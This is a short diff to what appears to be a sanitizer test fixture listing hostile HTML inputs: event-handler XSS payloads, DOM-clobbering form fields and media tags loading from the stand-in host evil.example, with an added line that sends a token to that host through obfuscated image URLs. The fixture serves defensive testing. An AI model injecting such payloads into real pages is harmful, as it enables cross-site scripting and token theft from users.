@@ -20,6 +20,7 @@ const PLAIN = [
   '<form action="https://evil.example/"><input name="password" autofocus onfocus=ran=1><button>12</button></form>',
   '<video poster="https://evil.example/x" src="//evil.example/x.mp4" onloadstart=ran=1></video><audio src=x onerror=ran=1>',
   '<details open ontoggle=ran=1>x</details><marquee onstart=ran=1>x</marquee><x onclick=ran=1>13</x>',
+  '<img src="https://evil.example/?token=1"><img src=//evil.example/2><img src="/\\evil.example/3"><img src="/&#9;/evil.example/4">',
   '<form><input name=attributes><input name=parentNode><img src=x onerror=ran=1></form><a id="__proto__">14</a>',
 ]
 /** Mixed languages swallow what follows: each is an article of its own. */
